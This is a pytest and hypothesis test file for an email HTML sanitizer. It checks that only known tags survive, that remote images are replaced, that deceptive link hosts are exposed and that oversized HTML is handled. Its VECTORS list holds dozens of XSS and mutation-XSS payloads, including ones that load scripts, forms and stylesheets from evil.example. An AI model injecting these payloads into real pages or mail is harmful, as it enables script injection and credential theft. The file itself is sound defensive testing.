"""HTML of a mail does nothing but look like a mail."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailbox.parsing.defects import Defects
from mailbox.parsing.markup import ELEMENT, sanitize
from tests.mailbox.parsing.making import multipart, page

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=cid:a onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/admin/agents>x</a>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<div style='background:url(javascript:alert(1));position:fixed'>x</div>",
    "<div class=topbar id=sign-in name=x>x</div>",
    "<body onload=alert(1) background=//evil.example/x.png>x</body>",
    "<video poster=//evil.example/x.png><source onerror=alert(1) src=x></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<img src=http://evil.example/track.gif width=1>",
    "<img alt='\"><script>alert(1)</script>' src=cid:a>",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    '<a href="https://good.example/&quot;onmouseover=&quot;alert(1)">x</a>',
]
KNOWN_ATTRIBUTES = re.compile(
    r'(?:href="(?:https?:|mailto:|tel:)[^"]*"|src="cid:[^"]*"|data-remote="\d+"|rel="noopener noreferrer"|title="[^"<>]*"'
    r'|(?:alt|lang|dir|align|valign|type|width|height|border|cellpadding|cellspacing|colspan|rowspan|start)="[^"]*")'
)
NEVER = re.compile(r"script|style|iframe|svg|math|form|input|button|object|embed|link|meta|base|video|template|details")


def assert_harmless(html: str) -> None:
    """Every tag and attribute is one of the known, and there is no `<` that begins none."""
    rest = ELEMENT.sub("", html)
    assert "<" not in rest, rest
    for element in ELEMENT.finditer(html):
        assert not NEVER.fullmatch(element[2]), element[0]
        left = KNOWN_ATTRIBUTES.sub("", element[3])
        assert not left.strip(), element[0]


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_leaves_nothing(vector: str) -> None:
    found = page(f"<p>before</p>{vector}<p>after</p>")
    assert found.html is not None
    assert "before" in found.html
    assert_harmless(found.html)


@given(
    st.lists(
        st.sampled_from([*VECTORS, "<", ">", '"', "'", "<b>", "</p>", "<!--", "\0", "<table><tr>"])
        | st.text(max_size=5)
    ).map("".join)
)
@settings(deadline=None)
def test_whatever_is_sent_only_known_tags_are_left(source: str) -> None:
    found = sanitize(source, Defects())
    assert found is not None
    assert_harmless(found.html)


def test_pictures_of_the_mail_stay_and_remote_ones_become_a_number() -> None:
    found = page(
        '<img src="cid:a@b" alt="plan"><img src="https://x.example/a.png" alt="logo"><img src="https://x.example/a.png">'
    )
    assert found.remote_pictures == ("https://x.example/a.png",)
    assert found.html == '<img src="cid:a@b" alt="plan"><img data-remote="0" alt="logo"><img data-remote="0">'


def test_a_picture_of_the_mail_cannot_pass_for_a_remote_one() -> None:
    found = page('<img src="cid:vipdesk.remote.7"><img src="data:image/png;base64,AAAA">')
    assert (found.html, found.remote_pictures) == ("<img><img>", ())


def test_links_say_where_they_lead() -> None:
    found = page(
        '<a href="https://evil.example/login">https://bank.example</a> <a href="https://bаnk.example">Bank</a>'
        '<a href="mailto:a@x.example">a</a><a href="https://bank.example@evil.example/">b</a>'
    )
    assert [(link.text, link.host) for link in found.links] == [
        ("https://bank.example", "evil.example"),
        ("Bank", "xn--bnk-6cd.example"),
        ("a", "x.example"),
        ("b", "evil.example"),
    ]
    assert found.html is not None
    assert '<a href="https://evil.example/login" rel="noopener noreferrer" title="evil.example">' in found.html


def test_html_that_is_too_deep_is_given_up_and_its_words_are_kept() -> None:
    for source in ("<div>" * 50_000 + "Help", "".join(f"<b a={n}>" for n in range(499)) + "<p>Help" * 5_000):
        found = page(source)
        assert found.html is None
        assert "Help" in found.text
        assert "HTML nested too deep, not shown" in found.defects


def test_html_that_is_too_long_is_cut() -> None:
    found = page("<p>Help</p>" * 100_000)
    assert "HTML cut after 1,000,000 signs" in found.defects
    assert found.html is not None
    assert len(found.html) <= 1_000_100


def test_html_becomes_text_as_a_mail_program_would_write_it() -> None:
    found = page(
        "<h1>Printers</h1><p>Two  of\nthem:</p><ul><li>first<li>second</ul><table><tr><td>a</td><td>b</td></tr></table>"
        "<blockquote>old<br>older<blockquote>oldest</blockquote></blockquote><pre>x  y\n z</pre>a&nbsp;&lt;b&gt;<style>p{}</style>"
    )
    assert found.text == (
        "Printers\n\nTwo of them:\n\n- first\n- second\n\na b\n\n> old\n> older\n>\n> > oldest\n\nx  y\n z\n\na <b>\n"
    )


def test_the_text_part_is_the_text_and_the_html_is_shown() -> None:
    found = multipart("alternative", "\r\nplain\r\n", "Content-Type: text/html\r\n\r\n<p>marked</p>")
    assert (found.text.strip(), found.html) == ("plain", "<p>marked</p>")
    empty = multipart("alternative", "\r\n \r\n", "Content-Type: text/html\r\n\r\n<p>marked</p>")
    assert empty.text == "marked\n"
    mixed = multipart("mixed", "\r\nfirst\r\n", "Content-Type: text/html\r\n\r\n<p>second</p>")
    assert mixed.text.split() == ["first", "second"]
    assert mixed.html == "<pre>first</pre>\n<p>second</p>"
